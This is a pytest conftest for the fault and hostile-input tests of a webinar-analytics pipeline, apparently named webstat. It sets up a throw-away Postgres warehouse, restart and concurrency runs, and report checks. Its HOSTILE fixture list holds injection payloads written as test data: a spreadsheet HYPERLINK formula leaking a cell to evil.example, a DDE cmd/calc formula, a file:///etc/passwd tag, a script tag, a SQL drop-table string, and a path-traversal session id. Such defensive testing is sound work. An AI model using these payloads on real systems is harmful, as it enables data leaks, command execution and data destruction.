"""Shared pieces of the fault and hostile-input suite.

* helpers to write raw-log lines and to count lines the way a reader of the
  contract would (independently of the loader's code), exposed as fixtures;
* ``week``: ONE throw-away embedded warehouse (its own pgdata, not the session's
  server): two generated days (plus hostile sessions) run task by task with the
  server stopped before every task, a third day run twice at once by two
  processes, then a full refresh. The restart, the concurrent-run, the
  full-refresh and the hostile-report tests all read it, so the suite pays for
  its dbt builds once (a build is ~20 s on a busy 2-core box).
"""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import subprocess
import sys
import tempfile
import time
from dataclasses import dataclass, field
from datetime import UTC, date, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from webstat.tasks.assets import MARTS  # every mart of docs/marts.md

REPO = Path(__file__).resolve().parents[3]
WEBSTAT = str(REPO / ".venv" / "bin" / "webstat")
if not Path(WEBSTAT).exists():  # an installed webstat next to this Python
    WEBSTAT = str(Path(sys.executable).with_name("webstat"))

MART_KEYS = {
    "fct_event_sessions": ("event_session_id",),
    "fct_participants": ("event_session_id", "participant_id"),
    "fct_connections": ("event_session_id", "connection_id"),
    "fct_traffic_sources": ("event_session_id", "referrer_source"),
    "fct_devices": ("event_session_id", "platform"),
    "fct_attendance_minutes": ("event_session_id", "minute_at"),
    "dim_people": ("organization_id", "person_key"),
    "fct_data_quality": ("event_session_id", "check_name"),
    "fct_webinar_series": ("event_session_id",),
}


# --- raw-log lines ---------------------------------------------------------------------------


def event(
    event_id: str,
    event_type: str = "chat.message_posted",
    *,
    at: str = "2026-11-02T10:05:00Z",
    session: str = "es-1",
    participant: str | None = "u-1",
    org: str = "org-1",
    **payload: Any,
) -> dict:
    """One well-formed event (a dict; ``line()`` makes it a line)."""
    if event_type == "chat.message_posted":
        payload = {"message_id": f"m-{event_id}", **payload}
    body: dict[str, Any] = {
        "event_id": event_id,
        "event_type": event_type,
        "occurred_at": at,
        "organization_id": org,
        "event_session_id": session,
        "webinar_id": "w-1",
        "payload": payload,
    }
    if participant is not None:
        body["participant_id"] = participant
    return body


def line(obj: Any) -> bytes:
    """JSON of ``obj`` as UTF-8 bytes (non-ASCII kept as is)."""
    return json.dumps(obj, ensure_ascii=False).encode("utf-8")


def nonblank_lines(data: bytes) -> list[tuple[int, bytes]]:
    """The lines of a delivered file as the contract reads them, with 1-based numbers.

    Written from docs/ingestion.md, not from the loader: a line ends at LF; a
    CR before it and a UTF-8 BOM at the very start of the file are not part of
    the line; a line of nothing but ASCII white space is blank and not counted.
    """
    if data.startswith(b"\xef\xbb\xbf"):
        data = data[3:]
    if not data:
        return []
    parts = data.split(b"\n")
    if parts[-1] == b"":  # the final newline ends the last line, it opens no new one
        parts.pop()
    out = []
    for number, raw in enumerate(parts, start=1):
        if raw.endswith(b"\r"):
            raw = raw[:-1]
        if raw.strip(b" \t\r\n\x0b\x0c"):
            out.append((number, raw))
    return out


# --- what the warehouse holds for a file -----------------------------------------------------


@dataclass
class FileOutcome:
    """Every row the warehouse holds for one file, by line number."""

    uri: str
    status: str | None
    ledger: dict[str, Any]
    events: dict[int, str] = field(default_factory=dict)  # line -> event_id
    duplicates: dict[int, str] = field(default_factory=dict)  # line -> event_id
    rejects: dict[int, tuple[str, str]] = field(default_factory=dict)  # line -> (code, md5)

    def outcome(self, number: int) -> str:
        """``loaded``, ``duplicate`` or the reject's code for line ``number``."""
        found = [
            kind
            for kind, rows in (("loaded", self.events), ("duplicate", self.duplicates))
            if number in rows
        ]
        if number in self.rejects:
            found.append(self.rejects[number][0])
        assert len(found) == 1, f"{self.uri} line {number} is in {found or 'no table'}"
        return found[0]


def file_outcome(conn, uri: str) -> FileOutcome:
    row = conn.execute(
        "select file_id, status, lines_total, rows_loaded, rows_rejected, rows_duplicate, error,"
        " size_bytes, sha256 from raw.loaded_files where uri = %s",
        (uri,),
    ).fetchone()
    if row is None:
        ledger: dict[str, Any] = {}
    else:
        ledger = dict(
            zip(
                (
                    "file_id",
                    "status",
                    "lines_total",
                    "rows_loaded",
                    "rows_rejected",
                    "rows_duplicate",
                    "error",
                    "size_bytes",
                    "sha256",
                ),
                row,
                strict=True,
            )
        )
    out = FileOutcome(uri, ledger.get("status"), ledger)
    out.events = dict(
        conn.execute(
            "select line_number, event_id from raw.platform_events where source_uri = %s", (uri,)
        )
    )
    out.duplicates = dict(
        conn.execute(
            "select line_number, event_id from raw.duplicate_events where source_uri = %s", (uri,)
        )
    )
    out.rejects = {
        n: (reason.split(":", 1)[0], digest)
        for n, reason, digest in conn.execute(
            "select line_number, reason, md5(raw_bytes) from raw.rejected_lines"
            " where source_uri = %s",
            (uri,),
        )
    }
    return out


@pytest.fixture(scope="session")
def faults_helpers():
    """The helpers above, for the test modules (conftest is not importable by name)."""

    class Helpers:
        pass

    h = Helpers()
    h.event, h.line, h.nonblank_lines, h.file_outcome = event, line, nonblank_lines, file_outcome
    h.MARTS, h.MART_KEYS, h.WEBSTAT = MARTS, MART_KEYS, WEBSTAT
    h.marts_fingerprint, h.duplicate_keys = marts_fingerprint, duplicate_keys
    h.subprocess_env, h.manifest_problems = subprocess_env, manifest_problems
    h.REPO = REPO
    h.DAYS, h.CONCURRENT_DAY = DAYS, CONCURRENT_DAY
    h.HOSTILE, h.TRAVERSAL_SESSION = HOSTILE, TRAVERSAL_SESSION
    return h


# --- marts and artifacts ---------------------------------------------------------------------


def marts_fingerprint(conn) -> dict[str, tuple[int, str]]:
    """Per mart: (row count, md5 of all rows as text in a fixed order)."""
    return {
        t: conn.execute(
            f"select count(*), md5(coalesce(string_agg(t::text, '|' order by t::text), ''))"
            f" from marts.{t} as t"
        ).fetchone()
        for t in MARTS
    }


def duplicate_keys(conn) -> dict[str, int]:
    """Per mart: how many key values occur more than once (all should be 0)."""
    out = {}
    for table, key in MART_KEYS.items():
        cols = ", ".join(key)
        out[table] = conn.execute(
            f"select count(*) from (select {cols} from marts.{table} group by {cols}"
            f" having count(*) > 1) as d"
        ).fetchone()[0]
    return out


def manifest_problems(artifacts: Path) -> list[str]:
    """Every report folder under ``artifacts`` whose manifest is missing or does not match."""
    problems = []
    for folder in sorted(p.parent for p in artifacts.rglob("report.xlsx")):
        manifest = folder / "manifest.json"
        if not manifest.exists():
            problems.append(f"{folder}: no manifest.json")
            continue
        files = json.loads(manifest.read_text(encoding="utf-8"))["files"]
        for name, entry in files.items():
            data = (folder / name).read_bytes()
            if (hashlib.sha256(data).hexdigest(), len(data)) != (
                entry["sha256"],
                entry["size_bytes"],
            ):
                problems.append(f"{folder}/{name}: does not match manifest.json")
    return problems


def subprocess_env(**webstat: str) -> dict[str, str]:
    """The environment for a ``webstat`` child process: this one's, minus any WEBSTAT_*
    setting of the developer, plus ``webstat`` (e.g. ``WAREHOUSE_URL=…``)."""
    env = {k: v for k, v in os.environ.items() if not k.startswith("WEBSTAT_")}
    env["WEBSTAT_ENV_FILE"] = os.environ.get("WEBSTAT_ENV_FILE", "/nonexistent/.env")
    env.update({f"WEBSTAT_{k.upper()}": v for k, v in webstat.items()})
    return env


# --- the week: the daily tasks on a throw-away embedded warehouse ----------------------------

DAYS = [date(2026, 11, 2), date(2026, 11, 3)]
"""Run task by task in this process, the warehouse stopped before every task."""
CONCURRENT_DAY = date(2026, 11, 4)
"""The week's third day, run twice at once by two `webstat` processes."""
HOSTILE_DAY = DAYS[0]

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    '<img src="file:///etc/passwd">',
    "<script>alert(1)</script>",
    "'); drop table raw.platform_events; --",
    "👩\u200d💻 محمد e\u0301 \u202eabc Z\u0351\u0300",  # emoji (ZWJ), RTL, combining, RLO
]
"""What strangers type: formula leads (= + - @ tab), markup, SQL, and Unicode that
moves the eye. Session ``es-h{k}`` carries ``HOSTILE[k]`` in every text field that
reaches a report."""
TRAVERSAL_SESSION = "../../../../tmp/webstat-evil"


def hostile_files() -> dict[str, list[bytes]]:
    """A delivery of sessions whose every report-reaching text field is hostile."""
    lines: list[bytes] = []
    n = 0

    def add(
        event_type: str, at: str, session: str, participant: str | None = None, **payload: Any
    ) -> None:
        nonlocal n
        n += 1
        body = event(
            f"h-{n}",
            event_type,
            at=at,
            session=session,
            participant=participant,
            org="org-hostile",
            **payload,
        )
        lines.append(line(body))

    for k, text in enumerate(HOSTILE):
        sid = f"es-h{k}"
        t = lambda minute: f"2026-11-02T12:{minute:02d}:00Z"  # noqa: E731
        utm = dict.fromkeys(("source", "medium", "campaign", "content", "term"), text)
        add("session.started", t(0), sid, webinar_name=text)
        add(
            "participant.registered",
            t(1),
            sid,
            text,
            email=text.lower(),
            first_name=text,
            last_name=text,
            fields={"поле": text, text: "значение"},
            referrer=text,
            utm=utm,
        )
        add(
            "participant.joined",
            t(2),
            sid,
            text,
            connection_id=text,
            role="participant",
            platform="web",
            chat_name=text,
            ip=text,
            country=text,
            city=text,
            user_agent=text,
            referrer=text,
            utm=utm,
        )
        add("agreement.accepted", t(3), sid, text, agreement_id="pd", title=text)
        add("chat.message_posted", t(4), sid, text, text=text)
        add("participant.left", t(30), sid, text, connection_id=text)
        add("session.ended", t(40), sid)
    add("session.started", "2026-11-02T12:00:00Z", TRAVERSAL_SESSION, webinar_name="traversal")
    add(
        "participant.joined",
        "2026-11-02T12:01:00Z",
        TRAVERSAL_SESSION,
        "u-t",
        connection_id="c-t",
        role="participant",
        platform="web",
    )
    add("session.ended", "2026-11-02T12:10:00Z", TRAVERSAL_SESSION)
    return {"hostile.ndjson": lines}


def interval(day: date) -> tuple[datetime, datetime]:
    start = datetime(day.year, day.month, day.day, tzinfo=UTC)
    return start, start + timedelta(days=1)


@dataclass
class Week:
    settings: Any
    root: Path
    env: dict[str, str]  # WEBSTAT_* of a child process on this warehouse
    steps: list[dict[str, Any]]  # every task call with the server stopped before it
    rendered: list[str] = field(default_factory=list)
    concurrent: list[tuple[int, str]] = field(default_factory=list)  # (status, output)
    incremental: dict[str, tuple[int, str]] = field(default_factory=dict)
    full_refresh: dict[str, tuple[int, str]] = field(default_factory=dict)
    seconds: dict[str, float] = field(default_factory=dict)  # wall time of each act

    def connect(self):
        from webstat.warehouse import connect

        return connect(self.settings)


@pytest.fixture(scope="session")
def week():
    """A small generated week (+ hostile sessions on day 1) on an embedded warehouse of
    its own (not the session's server), in three acts:

    1. days 1-2 task by task through ``webstat.tasks.daily`` / ``webstat.tasks.publish_sessions``,
       the server stopped before every task (the restart case);
    2. day 3 run twice at once: two ``webstat ingest && webstat dbt build`` processes
       on the same warehouse, landing zone and WEBSTAT_HOME (the concurrency case);
    3. the marts' fingerprint, a ``--full-refresh`` build at the same clock, the
       fingerprint again (the full-refresh case: it also checks act 2's marts).
    """
    from webstat.generate import generate
    from webstat.settings import load_settings
    from webstat.tasks import daily
    from webstat.tasks.publish_sessions import render_sessions, sessions_to_report
    from webstat.warehouse import embedded

    # not under pytest's basetemp: other pytest sessions on the box prune old basetemps
    root = Path(tempfile.mkdtemp(prefix="webstat-faults-week-"))
    env = {
        "HOME": str(root / "home"),
        "LANDING_URI": str(root / "landing"),
        "ARTIFACTS_URI": str(root / "artifacts"),
    }
    settings = load_settings({f"WEBSTAT_{k}": v for k, v in env.items()})
    generate(DAYS[0], CONCURRENT_DAY, root / "landing", seed=11, scale=250)
    part = root / "landing" / f"date={HOSTILE_DAY}"
    for name, lines in hostile_files().items():
        (part / name).write_bytes(b"\n".join(lines) + b"\n")

    steps: list[dict[str, Any]] = []

    def task(name: str, day: date, call) -> Any:
        """Stop the warehouse, then run the task: it must start it again by itself.

        A task that fails is recorded and run once more the way a new task process would
        (without pgserver's per-process handle of the server), so that the rest of the
        week, and the tests built on it, still happen."""
        was_running = embedded.stop(settings.pgdata)
        started = time.monotonic()
        error = None
        try:
            result = call()
        except Exception as exc:  # noqa: BLE001 - recorded, asserted by the restart test
            error = f"{type(exc).__name__}: {exc}"
            import pgserver

            pgserver.PostgresServer._instances.pop(settings.pgdata.resolve(), None)
            result = call()
        steps.append(
            {
                "task": name,
                "day": day,
                "stopped_before": was_running,
                "error": error,
                "running_after": embedded.running_uri(settings.pgdata) is not None,
                "seconds": round(time.monotonic() - started, 1),
            }
        )
        return result

    w = Week(settings, root, env, steps)
    clock = time.monotonic()

    def lap(name: str) -> None:
        nonlocal clock
        w.seconds[name] = round(time.monotonic() - clock, 1)
        clock = time.monotonic()

    try:
        lap("generate")
        # act 1
        for day in DAYS:
            start, end = interval(day)
            task("ingest", day, lambda s=start: daily.ingest(s, settings))
            task("transform", day, lambda s=start, e=end: daily.transform(s, e, settings))
            if day == DAYS[0]:
                batches = task("sessions_to_report", day, lambda: sessions_to_report(settings))
                first = [sid for sid in batches[0] if sid.startswith("es-2")][:2]  # generated
                w.rendered = task(
                    "render_reports",
                    day,
                    lambda ids=first: render_sessions(
                        ids, run_id="week", data_interval=interval(DAYS[0]), settings=settings
                    ),
                )
        lap("days 1-2, task by task")
        # act 2
        script = f'"{WEBSTAT}" ingest --start {CONCURRENT_DAY.isoformat()} && "{WEBSTAT}" dbt build'
        child_env = subprocess_env(**env)
        # each child writes to its own file: a pipe read after the other child's would fill
        # (dbt prints more than a pipe holds) and block the child that holds the dbt lock
        logs = [root / f"concurrent-{i}.log" for i in range(2)]
        procs = []
        for log_path in logs:
            with open(log_path, "w") as out:
                procs.append(
                    subprocess.Popen(
                        ["sh", "-c", script],
                        env=child_env,
                        cwd=REPO,
                        stdout=out,
                        stderr=subprocess.STDOUT,
                    )
                )
        for proc in procs:
            proc.wait(timeout=900)
        w.concurrent = [
            (p.returncode, log_path.read_text(errors="replace"))
            for p, log_path in zip(procs, logs, strict=True)
        ]
        lap("day 3, twice at once")
        # act 3: the children's dbt ran with the clock now(); so does the full refresh
        with w.connect() as conn:
            w.incremental = marts_fingerprint(conn)
        start, _ = interval(CONCURRENT_DAY)
        daily.transform(start, datetime.now(UTC), settings, full_refresh=True)
        with w.connect() as conn:
            w.full_refresh = marts_fingerprint(conn)
        lap("full refresh")
        if os.environ.get("WEBSTAT_FAULTS_TIMINGS"):
            print("\nweek:", w.seconds, [(s["task"], s["seconds"]) for s in steps])
        yield w
    finally:
        embedded.stop(settings.pgdata)
        shutil.rmtree(root, ignore_errors=True)
